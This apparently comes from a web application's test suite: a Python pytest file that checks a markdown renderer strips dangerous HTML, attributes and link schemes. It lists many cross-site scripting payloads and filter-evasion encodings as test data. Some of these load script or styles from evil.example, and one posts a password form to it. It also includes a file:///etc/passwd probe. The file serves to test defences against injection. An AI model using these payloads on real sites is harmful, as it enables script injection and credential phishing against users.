"""What authors write is shown as they mean it, and can do nothing else."""
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from formats.markdown.rendering import render
from formats.markdown.sanitizing import ATTRIBUTES, SCHEMES, TAGS

from .hostile_markup import VECTORS


class Markup(HTMLParser):
    """The tags a browser would see, each with its attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, dict(attrs)))

    def named(self, name: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.tags if tag == name]


def assert_harmless(markup: str) -> None:
    for tag, attributes in Markup(markup).tags:
        assert tag in TAGS, f'<{tag}> got through: {markup}'
        for name, value in attributes.items():
            assert name in ATTRIBUTES.get(tag, ()), f'{name}= got through on <{tag}>: {markup}'
            if name in ('href', 'src'):
                assert urlsplit(value or '').scheme in SCHEMES | {''}, f'{value} got through: {markup}'
            if name == 'style':
                assert (value or '').startswith('text-align'), f'{value} got through: {markup}'


RAW_HTML = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'text <script>alert(1)</script> text',
    '- <script>alert(1)</script>',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ONERROR = "alert(1)">',
    '<img/src/onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="//evil.example/x.swf">',
    '<style>body { background: url(javascript:alert(1)) }</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<body onload=alert(1)>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<p id="main" class="co-btn" name="socket">clobbers</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '\x00<script>alert(1)</script>',
    '`</code><script>alert(1)</script>`',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    '```</pre><script>alert(1)</script>\nx\n```',
    '    </pre><script>alert(1)</script>',
    '# <img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
]

BAD_ADDRESSES = [
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    'jAvAsCrIpT:alert(1)',
    ' javascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    'java\\script:alert(1)',
    '\x01javascript:alert(1)',
    '&#1;javascript:alert(1)',
    'javascript:%61lert(1)',
    'javascript:alert`1`',
    'vbscript:msgbox(1)',
    'VBScript:msgbox(1)',
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:image/svg+xml,<svg onload=alert(1)>',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
    'data:image/png;base64,iVBORw0KGgo=',
    'blob:https://cohort.example/1',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
]

FORMS = ['[a]({})', '[a](<{}>)', '![a]({})', '![a](<{}>)', '<{}>', '[a]\n\n[a]: {}', '[a]\n\n[a]: <{}> "t"']


@pytest.mark.parametrize('markdown', [*RAW_HTML, *VECTORS])
def test_html_is_shown_and_never_run(markdown):
    assert_harmless(render(markdown))


@pytest.mark.parametrize('address', BAD_ADDRESSES)
@pytest.mark.parametrize('form', FORMS)
def test_a_link_leads_to_the_web_or_nowhere(address, form):
    assert_harmless(render(form.format(address)))


@pytest.mark.parametrize('markdown', [
    '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    '![" onerror="alert(1)](https://x.example/a.png)',
    '![a](https://x.example/"onerror="alert(1))',
    '[a](https://x.example/"onmouseover="alert(1))',
])
def test_an_attribute_stays_inside_its_quotes(markdown):
    assert_harmless(render(markdown))


@given(st.text(alphabet='<>"\'`&;:/\\()[]!#*|-= \n\tajvscriptonerx&#09', max_size=200))
def test_whatever_is_typed_is_harmless(markdown):
    assert_harmless(render(markdown))


def test_raw_html_can_be_read_as_text():
    assert '&lt;script&gt;' in render('<script>alert(1)</script>')


@pytest.mark.parametrize('address', ['https://x.example/', 'http://x.example/', '//x.example/', 'HTTPS://x.example/'])
def test_a_link_out_of_the_house_opens_beside_and_tells_nothing(address):
    [link] = Markup(render(f'[a]({address})')).named('a')
    assert link['target'] == '_blank'
    assert set((link['rel'] or '').split()) == {'noopener', 'noreferrer', 'nofollow'}


@pytest.mark.parametrize('address', ['/sessions/1', '#top', 'mailto:ada@x.example', 'notes.txt'])
def test_a_link_within_the_house_stays_in_place(address):
    [link] = Markup(render(f'[a]({address})')).named('a')
    assert link == {'href': address}


def test_a_picture_from_elsewhere_is_a_link():
    markup = Markup(render('![A chart](https://x.example/chart.png) ![here](/sessions/1) ![](http://x.example/y.png)'))
    assert markup.named('img') == []
    assert [link['href'] for link in markup.named('a')] == [
        'https://x.example/chart.png', '/sessions/1', 'http://x.example/y.png']


def test_a_picture_within_a_link_is_not_a_second_link():
    markup = Markup(render('[![A chart](https://x.example/chart.png)](https://x.example/)'))
    assert [link['href'] for link in markup.named('a')] == ['https://x.example/']


def test_a_picture_of_an_allowed_host_loads_and_is_not_told_who_reads():
    images = Markup(render('![A chart](https://x.example/chart.png) ![](https://Y.example:8443/y.png)'
                           '![](http://x.example/z.png) ![](https://z.x.example/z.png)',
                           hosts={'x.example', 'y.example:8443'})).named('img')
    assert [image['src'] for image in images] == ['https://x.example/chart.png', 'https://Y.example:8443/y.png']
    assert images[0] == {
        'src': 'https://x.example/chart.png', 'alt': 'A chart', 'loading': 'lazy', 'referrerpolicy': 'no-referrer',
    }


def test_a_text_shows_files_of_its_own():
    markup = Markup(render('![A chart](file:my%20chart.png) [notes](<file:notes (1).pdf>)', '/here/files/'))
    assert markup.named('img')[0]['src'] == '/here/files/my%20chart.png'
    assert markup.named('a') == [{'href': '/here/files/notes%20(1).pdf'}]


@pytest.mark.parametrize('address', ['file:///etc/passwd', 'file:../../x', 'file:a/b', 'file:?x', 'file:%2e%2e\\\\x'])
def test_a_text_reaches_no_file_but_its_own(address):
    assert 'src=' not in render(f'![a]({address})', '/here/files/').replace('![a](', '')
    assert 'src=' not in render('![a](file:chart.png)')


def test_the_page_keeps_the_only_h1():
    markup = Markup(render('# One\n\n## Two\n\n###### Six\n\nAlso one\n==='))
    assert [tag for tag, _ in markup.tags if tag != 'p'] == ['h2', 'h3', 'h6', 'h2']


def test_headings_that_begin_lower_begin_right_under_the_title():
    markup = Markup(render('## First\n\n### Within'))
    assert [tag for tag, _ in markup.tags] == ['h2', 'h3']


@pytest.mark.parametrize('markdown', ['```sql\nselect 1\n```', '    select 1'])
def test_code_can_be_scrolled_from_the_keyboard(markdown):
    [block] = Markup(render(markdown)).named('pre')
    assert block == {'class': 'code', 'tabindex': '0'}


def test_code_keeps_its_language_and_its_words():
    markup = render('```python\nif 1 < 2: print("&")\n```')
    assert '<code class="language-python">if 1 &lt; 2: print(' in markup


def test_tables_are_tables_and_can_be_scrolled():
    markup = Markup(render('| a | b |\n|---|--:|\n| 1 | 2 |'))
    assert [tag for tag, _ in markup.tags] == ['div', 'table', 'thead', 'tr', 'th', 'th', 'tbody', 'tr', 'td', 'td']
    assert markup.named('div') == [{'class': 'table-box', 'tabindex': '0'}]
    assert 'text-align' in (markup.named('td')[1]['style'] or '')


def test_emphasis_strikethrough_lists_and_quotes_are_shown():
    markup = render('*a* **b** ~~c~~ `d`\n\n> e\n\n3. f\n4. g')
    shown = ('<em>a</em>', '<strong>b</strong>', '<s>c</s>', '<code>d</code>', '<blockquote>', '<ol start="3">')
    for expected in shown:
        assert expected in markup


def test_an_address_in_running_text_stays_text():
    assert Markup(render('See https://x.example and ada@x.example.')).named('a') == []


def test_nothing_is_nothing():
    assert render('') == ''
